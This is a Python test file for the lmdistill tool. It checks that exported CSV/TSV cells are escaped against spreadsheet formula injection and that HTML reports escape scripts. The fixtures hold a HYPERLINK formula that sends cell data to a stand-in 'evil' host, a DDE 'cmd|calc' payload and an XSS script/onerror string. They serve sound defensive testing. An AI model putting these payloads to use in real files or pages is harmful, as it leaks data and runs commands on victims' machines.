"""Cells of the tables that we write are no formulas, and pages run nothing."""

import csv
import json
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lmdistill.core.spreadsheet_cells import escaped
from lmdistill.evaluation.glue_submission import write_submission
from tests.cli.cli_project import read_csv, write_csv
from tests.report.factory import make_record, plain_record, write_run

FORMULA = '=HYPERLINK("http://evil"&A1)'
STARTS = "=+-@\t\r"
SCRIPT = "<script>alert(1)</script><img src=http://evil onerror=alert(1)>"


@given(st.text(max_size=20))
def test_no_cell_begins_like_a_formula_unless_it_is_a_number(text):
    cell = escaped(text)
    assert cell in (text, f"'{text}")
    if cell[:1] and cell[0] in STARTS:
        assert not re.search(r"[A-Za-z|!=&]", re.sub(r"e[-+]?\d+", "", cell, flags=re.IGNORECASE))


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_numbers_stay_numbers(number):
    assert escaped(str(number)) == str(number)
    assert escaped(f"{number} ± 1.0") == f"{number} ± 1.0"


@pytest.mark.parametrize(
    "text", ["-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "+A1", "-A1", "＝1+A1", "-1e5A", "-1\n=A1"]
)
def test_known_formulas_get_an_apostrophe(text):
    assert escaped(text) == f"'{text}"


def harmful(folder, text):
    """A run whose free texts are all this one."""
    run = write_run(folder, make_record("KD"), num_steps=5)
    value = plain_record("KD")
    value["name"] = value["task"]["name"] = value["teacher"]["source"] = text
    value["task"]["labels"] = [text, "yes"]
    value["task"]["notes"] = value["alarms"] = [text]
    value["method"]["name"] = value["command"] = value["environment"]["processor"] = text
    (run.path / "record.json").write_text(json.dumps(value))
    (run.path / "recipe.yaml").write_text(f"# {text}\nmethods: {{}}\n")
    return run.path


def test_tables_of_a_report_hold_no_formula(tmp_path, monkeypatch, lmdistill):
    monkeypatch.chdir(tmp_path)
    harmful(Path("runs"), FORMULA)
    assert lmdistill("report", "runs", "--files", "tables").code == 0
    cells = [cell for path in Path("tables").glob("*.csv") for row in read_csv(path) for cell in row]
    assert f"'{FORMULA}" in cells
    assert [cell for cell in cells if cell[:1] in tuple("=@\t\r")] == []
    assert [
        cell for cell in cells if cell[:1] in tuple("+-") and re.search(r"[A-Za-z]", cell.replace("e-", ""))
    ] == []


def test_pages_show_texts_and_run_nothing(tmp_path, monkeypatch, lmdistill):
    monkeypatch.chdir(tmp_path)
    harmful(Path("runs"), SCRIPT)
    assert lmdistill("report", "runs", "--out", "page", "--files", "tables").code == 0
    page = Path("page/report.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;" in page
    assert "default-src 'none'" in page
    for text in (page, *(path.read_text(encoding="utf-8") for path in Path("tables").glob("*.svg"))):
        assert not re.search(
            r"<script|<img|<iframe|onerror\s*=(?!alert)|javascript:", text.replace("&lt;", ""), re.IGNORECASE
        )


@pytest.mark.parametrize("ending", [".csv", ".tsv"])
def test_predict_returns_cells_as_they_are_unless_it_is_told(ending, finished, tmp_path, lmdistill):
    source, rows = tmp_path / "asked.csv", [[f"{FORMULA} good", "-1"], ["fine film", "=2"]]
    write_csv(source, rows, header=("text", "@id"))
    for flags in ((), ("--escape-formulas",)):
        out = tmp_path / f"out{len(flags)}{ending}"
        said = lmdistill("predict", "runs/one", source, "--out", out, *flags)
        assert said.code == 0, said.err
        with out.open(newline="", encoding="utf-8") as file:
            found = list(csv.reader(file, delimiter="\t" if ending == ".tsv" else ","))
        mark = "'" if flags else ""
        assert found[0][:2] == ["text", f"{mark}@id"]
        assert [row[:2] for row in found[1:]] == [[f"{mark}{FORMULA} good", "-1"], ["fine film", f"{mark}=2"]]


def test_a_submission_holds_files_of_its_own_names_only(tmp_path):
    write_submission(tmp_path / "x.zip", {}, fill=True)
    with zipfile.ZipFile(tmp_path / "x.zip") as archive:
        names = archive.namelist()
    assert names
    assert all(re.fullmatch(r"[\w-]+\.tsv", name) for name in names)
